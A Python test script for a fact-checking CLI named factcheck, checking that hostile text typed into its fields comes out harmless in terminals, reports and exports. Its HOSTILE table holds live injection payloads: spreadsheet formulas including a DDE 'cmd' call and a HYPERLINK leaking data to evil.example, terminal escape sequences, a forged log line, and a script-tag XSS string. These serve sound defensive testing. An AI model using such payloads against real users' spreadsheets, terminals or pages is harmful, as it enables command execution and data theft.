"""Hostile text against everything factcheck writes out: spreadsheet formulas, terminal escape
sequences, rich markup and emoji codes, and `</script>` in every text field a researcher fills
in, then every output that shows them (on a real terminal, in files, in the CSV and ClaimReview
exports) and every name to act as.

Checks, each counted:
- on a terminal (a pty, TERM=dumb so that factcheck's own colours add no escape of their own),
  no control character but newline and tab reaches it, from any listing, detail view, report,
  export or `--json`;
- the HTML, Markdown, DOT and text reports hold no control character either (they show escapes
  such as `\\x1b`), the ClaimReview feed no raw `<`, `>` or `&`, and it reads back to the very
  texts stored;
- no cell of any CSV (the export, both reports) starts as a spreadsheet formula, and the exported
  CSV imported again into the same database adds nothing, and into a new one gives back every row
  with its text unchanged;
- a name to act as (`--as`, FACTCHECK_USER) holding a control character is refused with one
  `Error:` line, exit 1, the database and every other file unchanged; any other name is recorded
  exactly and `log` shows it on one line;
- no output command changes the database or any file but the one it was asked to write.

Everything runs through the CLI entry point in child processes, the terminal ones on a pty.
Prints the tally as a Markdown section (docs/reliability.md) and exits 1 on any violation.

    .venv/bin/python bench/hostile_text.py
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import select
import subprocess
import sys
import tempfile
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

# Run as `python bench/NAME.py`, this file's folder is on sys.path but the repository root, where
# the `bench` package is, may not be.
if not __package__:
    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))

from bench import harness

HOSTILE: dict[str, str] = {
    # A spreadsheet runs a cell starting with = + - @ (OWASP "CSV Injection").
    "formula": "=1+2",
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1,"open the source")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+2",
    "minus": "-2+3",
    "negative number": "-5",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "lone triggers": "=",
    "lone plus": "+",
    "lone minus": "-",
    "lone at": "@",
    # A quote the CSV import must not take for the one the export puts in front of a formula.
    "quoted formula": "'=1+2",
    "two quotes": "''",
    "one quote": "'",
    "leading apostrophe": "'Tis the season",
    "tab and return inside": "safe\t=1+2\rEVIL",
    # Terminal control: colours, window title, hyperlinks, screen clearing, queries whose answer
    # the terminal types back, the 8-bit CSI, bells, backspaces, next-line.
    "ansi colour": "\x1b[31mred\x1b[0m text",
    "window title": "\x1b]0;retitled\x07title",
    "hyperlink escape": "\x1b]8;;http://evil.example\x1b\\a link\x1b]8;;\x1b\\",
    "clear screen": "\x1b[2J\x1b[Hcleared",
    "cursor query": "\x1b[6n\x1bP+q544e\x1b\\ asks the terminal",
    "c1 csi": "\u009b31m eight-bit CSI \u0085 next line",
    "bell and backspace": "ring\x07\x08\x08\x7f erased",
    "carriage return": "innocent text\rFORGED",
    "newline": "line one\nline two",
    "forged log entry": "someone\n#999 2020-01-01 00:00 root delete claims 1",
    # Markup rich would read in a string it prints (markup and emoji codes).
    "markup": "[bold red]markup[/bold red] [link=http://evil.example]x[/link]",
    "closing tag": "[/] stray closing tag",
    "emoji codes": ":warning: :smile:",
    # A ClaimReview feed is embedded in a page's <script>: these would end or hide it.
    "script end": "</script><script>alert(1)</script>",
    "html comment": "<!-- hidden -->",
    "ampersands": "&amp &lt ]]> & more",
}

# The places each hostile text is written to, through the commands below.
FIELDS = (
    "source title",
    "source author",
    "source outlet",
    "source notes",
    "source text",
    "entity name",
    "claim text",
    "claim notes",
    "quote",
    "claimant",
    "tag",
    "verdict label",
    "verdict note",
    "link note",
)

# Columns of the CSV export that hold what was typed (the others are ids, times, vocabularies).
CSV_TEXT_COLUMNS = ("claim", "source", "quote", "claimant", "stance", "kind", "tags", "verdict",
                    "verdict_note", "evidence")  # fmt: skip
# Report formats that are for people: control characters are shown as escapes in them.
PEOPLE_FORMATS = ("text", "markdown", "html", "dot")
# What a spreadsheet takes for the start of a formula.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# What the terminal may receive besides printable text (a pty turns "\n" into "\r\n").
_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
_MARK = "=== factcheck hostile-text command {} ==="

# One child process runs a plan of commands through the CLI entry point, each with environment
# variables of its own (None: unset). "capture" collects each command's exit code and output as
# JSON; "terminal" leaves stdout and stderr on the terminal, a marker line before each command.
CHILD = r"""
import contextlib, io, json, os, sys
from factcheck.cli import main
plan = json.loads(open(sys.argv[1], encoding="utf-8").read())
mode, results = sys.argv[2], []
for n, (args, env) in enumerate(plan):
    saved = {name: os.environ.get(name) for name in env}
    for name, value in env.items():
        os.environ.pop(name, None) if value is None else os.environ.__setitem__(name, value)
    out, err = io.StringIO(), io.StringIO()
    if mode == "terminal":
        print(MARK.format(n), flush=True)
        redirect = contextlib.nullcontext()
    else:
        redirect = contextlib.ExitStack()
        redirect.enter_context(contextlib.redirect_stdout(out))
        redirect.enter_context(contextlib.redirect_stderr(err))
    with redirect:
        try:
            main(args)
            code = 0
        except SystemExit as exc:
            code = exc.code if isinstance(exc.code, int) else (0 if exc.code is None else 1)
    sys.stdout.flush()
    sys.stderr.flush()
    for name, value in saved.items():
        os.environ.pop(name, None) if value is None else os.environ.__setitem__(name, value)
    results.append({"code": code, "stdout": out.getvalue(), "stderr": err.getvalue()})
if mode == "capture":
    with open(sys.argv[3], "w", encoding="utf-8") as file:
        json.dump(results, file)
""".replace("MARK", repr(_MARK))

Plan = list[tuple[list[str], dict[str, str | None]]]


@dataclass
class Outcome:
    code: int
    stdout: str
    stderr: str


# The checks, in the order the tally shows them: what is counted as tried, what as gone wrong.
STORED = "hostile values stored through the CLI"
TERMINAL = "outputs read on a terminal (a pty)"
FILES = "report and export files written"
CSV_CELLS = "CSV cells written (the export and both reports)"
CSV_ROWS = "CSV export rows imported again (into their own and a new database)"
CLAIMREVIEW = "ClaimReview texts"
ACTORS = "names to act as (--as, FACTCHECK_USER, the login name)"
UNCHANGED = "output and refused commands run, database and files compared"
WRONG = {
    STORED: "refused",
    TERMINAL: "with a control character",
    FILES: "with a control character in HTML, Markdown, DOT or text, or markup in HTML",
    CSV_CELLS: "starting as a formula, or breaking their row",
    CSV_ROWS: "added again, lost or changed",
    CLAIMREVIEW: "with a raw < > or &, or read back differently",
    ACTORS: "refused though plain, accepted with a control character, or not one clean line",
    UNCHANGED: "that changed the database or a file",
}


@dataclass
class Tally:
    """What was tried and what went wrong, by check; `problems` says what went wrong."""

    tried: Counter[str] = field(default_factory=Counter)
    wrong: Counter[str] = field(default_factory=Counter)
    refused_actors: int = 0
    problems: list[str] = field(default_factory=list)

    def problem(self, check: str, message: str) -> None:
        self.wrong[check] += 1
        self.problems.append(message)


def run_plan(workdir: Path, db: Path, plan: Plan) -> list[Outcome]:
    """Run the plan in one child process (no terminal) and return each command's outcome."""
    plan_file, results_file = workdir / ".plan.json", workdir / ".results.json"
    plan_file.write_text(json.dumps(plan), encoding="utf-8")
    try:
        subprocess.run(
            [sys.executable, "-c", CHILD, str(plan_file), "capture", str(results_file)],
            env=harness.env_for(db),
            cwd=workdir,
            stdin=subprocess.DEVNULL,
            check=True,
            timeout=900,
        )
        return [Outcome(**r) for r in json.loads(results_file.read_text(encoding="utf-8"))]
    finally:
        plan_file.unlink(missing_ok=True)
        results_file.unlink(missing_ok=True)


def run_on_terminal(workdir: Path, db: Path, plan: Plan) -> list[bytes]:
    """Run the plan in one child process whose stdin, stdout and stderr are a pty, and return
    the bytes the terminal received from each command."""
    plan_file = workdir / ".plan.json"
    plan_file.write_text(json.dumps(plan), encoding="utf-8")
    primary, secondary = os.openpty()
    env = {**harness.env_for(db), "TERM": "dumb", "COLUMNS": "120"}
    env.pop("NO_COLOR", None)
    try:
        child = subprocess.Popen(
            [sys.executable, "-c", CHILD, str(plan_file), "terminal"],
            env=env,
            cwd=workdir,
            stdin=secondary,
            stdout=secondary,
            stderr=secondary,
        )
        os.close(secondary)
        received = bytearray()
        while True:
            ready, _, _ = select.select([primary], [], [], 600)
            if not ready:
                child.kill()
                raise TimeoutError("the terminal run stopped answering")
            try:
                chunk = os.read(primary, 65536)
            except OSError:  # the child closed the terminal
                break
            if not chunk:
                break
            received.extend(chunk)
        if child.wait(timeout=60) != 0:
            raise AssertionError(f"the terminal run failed: {received[-2000:]!r}")
    finally:
        os.close(primary)
        plan_file.unlink(missing_ok=True)
    parts = re.split(rb"=== factcheck hostile-text command \d+ ===\r?\n", bytes(received))
    return parts[1:]


def fill_plan(workdir: Path) -> Plan:
    """Every hostile text in every field (FIELDS), through the commands a researcher types. Text
    number i is source `s{i}`, claim i, with a verdict of its own label, contradicting claim
    i+1 (the last one the first), so that every claim shows in every report."""
    plan: Plan = []
    for i, text in enumerate(HOSTILE.values(), start=1):
        article = workdir / f"article-{i}.txt"
        article.write_text(f"Article {i} says: {text} End of article {i}.", encoding="utf-8")
        entity = f"{text} (entity {i})"
        plan += [
            (["source", "add", f"--key=s{i}", f"--title={text}", f"--author={text}",
              f"--outlet={text}", f"--notes={text}", f"--file={article}"], {}),
            (["entity", "add", "--", entity], {}),
            (["claim", "add", f"--source=s{i}", f"--quote={text}", f"--claimant={text}",
              f"--tag={text}", f"--notes={text}", f"--entity={entity}", "--", text], {}),
            (["verdict", "define", "--polarity=refuted", "--", text], {}),
            (["verdict", "set", f"--note={text}", f"--evidence=s{i}", "--", str(i), text], {}),
        ]  # fmt: skip
    for i, text in enumerate(HOSTILE.values(), start=1):
        link = [str(i), str(i % len(HOSTILE) + 1), "--relation=contradicts", f"--note={text}"]
        plan.append((["link", *link], {}))
    return plan


def output_plan(count: int) -> Plan:
    """What a researcher reads: every listing and detail view, every report, every export."""
    plan: Plan = [
        (["claim", "list", "--all"], {}),
        (["source", "list", "--all"], {}),
        (["entity", "list", "--all"], {}),
        (["log", "--all"], {}),
        (["search", "--all", "text"], {}),
        (["verdict", "labels"], {}),
        (["report", "sources"], {}),
        (["claim", "list", "--json"], {}),
        (["suggest", "--limit=10"], {}),
    ]
    for i in range(1, count + 1):
        plan += [
            (["claim", "show", str(i)], {}),
            (["source", "show", f"s{i}", "--text"], {}),
            (["entity", "show", str(i)], {}),
            (["verdict", "history", str(i)], {}),
        ]
    for fmt in ("text", "markdown", "html", "json", "csv", "dot"):
        plan.append((["report", "contradictions", f"--format={fmt}"], {}))
    for fmt in ("markdown", "json", "csv"):
        plan.append((["report", "sources", f"--format={fmt}"], {}))
    for fmt in ("jsonl", "csv", "claimreview"):
        plan.append((["export", f"--format={fmt}"], {}))
    return plan


def file_plan(workdir: Path) -> dict[str, tuple[list[str], dict[str, str | None]]]:
    """The reports and exports written to files, by file name."""
    files = {
        f"contradictions.{fmt}": ["report", "contradictions", f"--format={fmt}"]
        for fmt in ("text", "markdown", "html", "json", "csv", "dot")
    }
    files |= {f"sources.{fmt}": ["report", "sources", f"--format={fmt}"] for fmt in ("text", "csv")}
    files |= {
        f"export.{fmt}": ["export", f"--format={fmt}"] for fmt in ("jsonl", "csv", "claimreview")
    }
    return {name: ([*args, f"--output={workdir / name}"], {}) for name, args in files.items()}


def snapshot(workdir: Path) -> dict[str, bytes]:
    """Every file of the folder and its contents (the database's shared-memory index aside:
    SQLite rewrites it whenever the file is opened)."""
    return {
        path.name: path.read_bytes()
        for path in sorted(workdir.iterdir())
        if path.is_file() and not path.name.endswith("-shm")
    }


def database_state(db: Path) -> list[str]:
    with harness.opened(db) as connection:
        return list(connection.iterdump())


def _control(received: str) -> str | None:
    """Where `received` holds a control character (newline and tab aside), in a few words."""
    found = _CONTROL.search(received.replace("\r\n", "\n"))
    if found is None:
        return None
    start = max(found.start() - 30, 0)
    return f"control character {found.group()!r} in {received[start : found.end() + 30]!r}"


def check_terminal(workdir: Path, db: Path, tally: Tally) -> None:
    plan = output_plan(len(HOSTILE))
    before = snapshot(workdir), database_state(db)
    received = run_on_terminal(workdir, db, plan)
    tally.tried[UNCHANGED] += len(plan)
    if (snapshot(workdir), database_state(db)) != before:
        tally.problem(UNCHANGED, "reading on a terminal changed the database or a file")
    if len(received) != len(plan):
        tally.problem(TERMINAL, f"{len(received)} terminal outputs for {len(plan)} commands")
    for (args, _env), output in zip(plan, received, strict=False):
        tally.tried[TERMINAL] += 1
        if problem := _control(output.decode()):
            tally.problem(TERMINAL, f"factcheck {' '.join(args)} on a terminal: {problem}")


def _csv_rows(text: str) -> tuple[list[str], list[list[str]]]:
    header, *rows = csv.reader(io.StringIO(text, newline=""))
    return header, rows


def check_csv_cells(name: str, text: str, tally: Tally) -> None:
    header, rows = _csv_rows(text)
    for number, row in enumerate(rows, start=2):
        tally.tried[CSV_CELLS] += len(row)
        if len(row) != len(header):
            tally.problem(CSV_CELLS, f"{name} row {number}: {len(row)} fields, not {len(header)}")
        for column, cell in zip(header, row, strict=False):
            if cell.startswith(FORMULA_START):
                tally.problem(CSV_CELLS, f"{name} row {number} {column}: formula {cell[:40]!r}")


def check_files(workdir: Path, db: Path, tally: Tally) -> dict[str, str]:
    """Write every report and export to a file and check each; returns their texts."""
    plan = file_plan(workdir)
    before = database_state(db)
    outcomes = run_plan(workdir, db, list(plan.values()))
    tally.tried[UNCHANGED] += len(plan)
    if database_state(db) != before:
        tally.problem(UNCHANGED, "writing the reports and exports changed the database")
    for (args, _env), outcome in zip(plan.values(), outcomes, strict=True):
        if outcome.code != 0:
            tally.problem(FILES, f"factcheck {' '.join(args)} failed: {outcome.stderr}")
    # Read as written: a carriage return in a CSV cell stays one.
    texts = {name: (workdir / name).read_bytes().decode() for name in plan}
    tally.tried[FILES] += len(texts)
    for name, text in texts.items():
        if name.split(".")[1] in PEOPLE_FORMATS and (problem := _control(text)):
            tally.problem(FILES, f"{name}: {problem}")
    for text in HOSTILE.values():
        if "<" in text and text in texts["contradictions.html"]:
            tally.problem(FILES, f"contradictions.html holds {text!r} as markup")
    for name in ("contradictions.csv", "sources.csv", "export.csv"):
        check_csv_cells(name, texts[name], tally)
    feed = texts["export.claimreview"]
    reviewed = [item["claimReviewed"] for item in json.loads(feed)["dataFeedElement"]]
    tally.tried[CLAIMREVIEW] += len(reviewed)
    for char in "<>&":
        if char in feed:
            tally.problem(CLAIMREVIEW, f"export.claimreview holds a raw {char!r}")
    for text in {text.strip() for text in HOSTILE.values()} ^ set(reviewed):
        tally.problem(CLAIMREVIEW, f"the ClaimReview feed and the claims differ on {text!r}")
    return texts


def _csv_text_rows(text: str) -> list[tuple[str, ...]]:
    header, rows = _csv_rows(text)
    at = [header.index(column) for column in CSV_TEXT_COLUMNS]
    return sorted(tuple(row[i] if i < len(row) else "" for i in at) for row in rows)


def check_csv_round_trip(workdir: Path, db: Path, texts: dict[str, str], tally: Tally) -> None:
    """The CSV export imported into the same database adds nothing; into a new database holding
    only the sources, entities and labels, it gives back every row, texts unchanged."""
    exported = workdir / "export.csv"
    original = _csv_text_rows(texts["export.csv"])
    tally.tried[CSV_ROWS] += len(original)
    before = database_state(db)
    (again,) = run_plan(workdir, db, [(["import", str(exported), "--json"], {})])
    tally.tried[UNCHANGED] += 1
    if again.code != 0 or any(json.loads(again.stdout)["added"].values()):
        tally.problem(CSV_ROWS, f"the CSV export imported into its own database: {again}")
    if database_state(db) != before:
        tally.problem(UNCHANGED, "importing the CSV export into its own database changed it")
    # A new database with what the CSV refers to but does not carry.
    kept = ("factcheck", "rating_scale", "rating_label", "source", "entity")
    lines = [line for line in texts["export.jsonl"].split("\n")[:-1]]
    references = workdir / "references.jsonl"
    references.write_bytes(
        "".join(line + "\n" for line in lines if json.loads(line)["type"] in kept).encode()
    )
    fresh, reexported = workdir / "fresh.db", workdir / "reexport.csv"
    plan: Plan = [
        (["import", str(references)], {}),
        (["import", str(exported)], {}),
        (["export", "--format=csv", f"--output={reexported}"], {}),
    ]
    for (args, _env), outcome in zip(plan, run_plan(workdir, fresh, plan), strict=True):
        if outcome.code != 0:
            tally.problem(CSV_ROWS, f"factcheck {' '.join(args)} (new database): {outcome.stderr}")
    copied = _csv_text_rows(reexported.read_bytes().decode())
    for row in original:
        if row in copied:
            copied.remove(row)
        else:
            tally.problem(CSV_ROWS, f"the CSV round trip lost or changed the row {row}")
    for path in (references, reexported, *workdir.glob("fresh.db*")):
        path.unlink()


def actor_plan() -> list[tuple[str, str, Plan]]:
    """Each hostile text as the name to act as, given each way: (the name, how, the commands:
    a change to claim 1, then the history's newest entry)."""
    attempts = []
    ways: tuple[tuple[str, list[str], dict[str, str | None]], ...]
    for n, text in enumerate(HOSTILE.values()):
        ways = (
            ("--as", [f"--as={text}"], {}),
            ("FACTCHECK_USER", [], {"FACTCHECK_USER": text}),
            ("the login name", [], {"FACTCHECK_USER": None, "LOGNAME": text}),
        )
        for how, before, env in ways:
            change = [*before, "claim", "edit", "1", f"--notes=edited by actor {n} ({how})"]
            attempts.append((text, how, [(change, env), (["log", "--limit=1", "--json"], {})]))
    return attempts


def must_refuse(name: str) -> bool:
    """Whether a name to act as holds a control character, tab and newline included."""
    return _CONTROL.search(name) is not None or "\t" in name or "\n" in name


def _refused_cleanly(outcome: Outcome) -> bool:
    lines = outcome.stderr.splitlines()
    return (
        outcome.code == 1
        and outcome.stdout == ""
        and [line.split(" ")[0] for line in lines] == ["Error:", "Hint:"]
    )


def check_actors(workdir: Path, db: Path, tally: Tally) -> None:
    """Names with a control character are refused cleanly and change no file; the others are
    recorded exactly, and `log` on a terminal shows each entry on its own line."""
    attempts = actor_plan()
    refused = [a for a in attempts if must_refuse(a[0])]
    accepted = [a for a in attempts if a not in refused]
    tally.tried[ACTORS] += len(attempts)
    before = snapshot(workdir)
    outcomes = run_plan(workdir, db, [plan[0] for _name, _how, plan in refused])
    tally.tried[UNCHANGED] += len(refused)
    if snapshot(workdir) != before:
        tally.problem(UNCHANGED, "a refused name to act as changed a file")
    for (name, how, _plan), outcome in zip(refused, outcomes, strict=True):
        if _refused_cleanly(outcome):
            tally.refused_actors += 1
        else:
            tally.problem(ACTORS, f"{how} {name!r} was not refused cleanly: {outcome}")
    outcomes = run_plan(workdir, db, [step for _name, _how, plan in accepted for step in plan])
    for (name, how, _plan), change, log in zip(
        accepted, outcomes[::2], outcomes[1::2], strict=True
    ):
        if change.code != 0:
            tally.problem(ACTORS, f"{how} {name!r} was refused: {change.stderr}")
        elif (recorded := json.loads(log.stdout)[0]["actor"]) != name:
            tally.problem(ACTORS, f"{how} {name!r} was recorded as {recorded!r}")
    listing = ["log", "--all", "--table=claims"]
    (shown,) = run_on_terminal(workdir, db, [(listing, {})])
    (entries,) = run_plan(workdir, db, [([*listing, "--json"], {})])
    heads = [line for line in shown.decode().splitlines() if line.startswith("#")]
    if len(heads) != len(json.loads(entries.stdout)):
        count = len(json.loads(entries.stdout))
        tally.problem(ACTORS, f"log shows {len(heads)} lines that start an entry for {count}")


def battery(workdir: Path) -> Tally:
    """Run every check in `workdir` (an empty folder) and return the tally."""
    db = workdir / "hostile.db"
    tally = Tally()
    fill = fill_plan(workdir)
    tally.tried[STORED] = len(HOSTILE) * len(FIELDS)
    for (args, _env), outcome in zip(fill, run_plan(workdir, db, fill), strict=True):
        if outcome.code != 0:
            tally.problem(STORED, f"factcheck {' '.join(args)} was refused: {outcome.stderr}")
    check_terminal(workdir, db, tally)
    texts = check_files(workdir, db, tally)
    check_csv_round_trip(workdir, db, texts, tally)
    check_actors(workdir, db, tally)
    return tally


def section(tally: Tally) -> str:
    """The tally as a Markdown table."""
    lines = [
        f"{len(HOSTILE)} hostile texts (formulas, escape sequences, markup, `</script>`), each "
        f"written to {len(FIELDS)} fields: {', '.join(FIELDS)}.",
        "",
        "| check | tried | gone wrong |",
        "|---|---:|---|",
    ]
    for check, wrong in WRONG.items():
        lines.append(f"| {check} | {tally.tried[check]:,} | {tally.wrong[check]} {wrong} |")
    lines += [
        "",
        f"Names to act as holding a control character, refused with one `Error:` line: "
        f"{tally.refused_actors}.",
    ]
    return "\n".join(lines) + "\n"


def main() -> int:
    with tempfile.TemporaryDirectory() as tmp:
        tally = battery(Path(tmp))
    print(section(tally))
    for problem in tally.problems:
        print(f"PROBLEM: {problem}", file=sys.stderr)
    return 1 if tally.problems else 0


if __name__ == "__main__":
    sys.exit(main())
